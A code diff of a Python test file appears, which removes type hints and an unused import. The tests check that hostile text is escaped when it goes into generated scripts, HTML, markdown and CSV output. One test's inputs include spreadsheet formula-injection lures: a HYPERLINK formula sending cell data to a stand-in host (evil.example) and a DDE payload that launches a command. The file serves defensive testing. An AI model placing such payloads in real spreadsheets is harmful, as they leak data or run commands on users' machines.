@@ -8,7 +8,6 @@ import csv
 import io
 import re
 import sys
-from collections.abc import Callable
 from html.parser import HTMLParser
 from types import ModuleType, SimpleNamespace
 from typing import Any
@@ -59,7 +58,7 @@ def hostile(text: str, epsilon: float) -> Run:
 
 
 @pytest.fixture(scope="module", params=HOSTILE, ids=range(len(HOSTILE)))
-def attack(request: pytest.FixtureRequest) -> tuple[str, dict[str, str]]:
+def attack(request):
     """A hostile text, and the files that are made of two records which hold it everywhere."""
     runs = [hostile(request.param, epsilon) for epsilon in (1.0, 2.0)]
     more = {"created": "2026-11-22", "note": request.param, "tags": request.param, "owner": ""}
@@ -71,9 +70,7 @@ def attack(request: pytest.FixtureRequest) -> tuple[str, dict[str, str]]:
     }
 
 
-def test_the_script_holds_literals_alone(
-    attack: tuple[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_the_script_holds_literals_alone(attack, monkeypatch):
     text, files = attack
     tree = ast.parse(files["script"])
     for node in tree.body:
@@ -106,7 +103,7 @@ class Tags(HTMLParser):
         self.tags.append((tag, dict(attrs)))
 
 
-def test_the_report_has_no_tag_or_attribute_of_others(attack: tuple[str, dict[str, str]]) -> None:
+def test_the_report_has_no_tag_or_attribute_of_others(attack):
     reader = Tags()
     reader.feed(attack[1]["html"])
     tags = {
@@ -139,9 +136,7 @@ LURES = (
 
 @pytest.mark.parametrize("text", (*HOSTILE, *LURES), ids=range(len(HOSTILE) + len(LURES)))
 @pytest.mark.parametrize("render", [safe_text.escape, safe_text.escape_letters])
-def test_markdown_has_no_link_image_or_tag_of_others(
-    text: str, render: Callable[[str], str]
-) -> None:
+def test_markdown_has_no_link_image_or_tag_of_others(text, render):
     """What is said on a page about other people's text."""
     tokens = MarkdownIt("commonmark", {"html": True}).parse(f"It says {render(text)} here.")
     children = [child for token in tokens for child in (token, *(token.children or []))]
@@ -171,7 +166,7 @@ def cells(text: str, separator: str) -> list[str]:
     ['=HYPERLINK("http://evil.example/?"&A1;"more")', "=1+cmd|' /C calc'!A0", "+A1", "-2+A1",
      "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
 )  # fmt: skip
-def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
+def test_a_formula_is_none_wherever_it_stands(before, lure):
     text = to_csv(pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]}))
     for separator in ",;\t|":
         assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], text
@@ -184,11 +179,11 @@ def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
      "from -5 to +3", "me@example.org", "C++ & C", "a -> b", "rank=4, epsilon=0.5", "it's", "",
      "50% - 60%", "2026-11-22 10:00", "Grüße, 😀"],
 )  # fmt: skip
-def test_ordinary_texts_stay_as_they_are(text: str) -> None:
+def test_ordinary_texts_stay_as_they_are(text):
     assert harmless(text) == text
 
 
-def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells() -> None:
+def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells():
     row = {"=a": "x;=b", "n": -1.5, "none": None, "flag": True}
     assert harmless_row(row) == {"'=a": "x;'=b", "n": -1.5, "none": None, "flag": True}
     assert harmless(harmless("x;=b")) == harmless("x;=b")
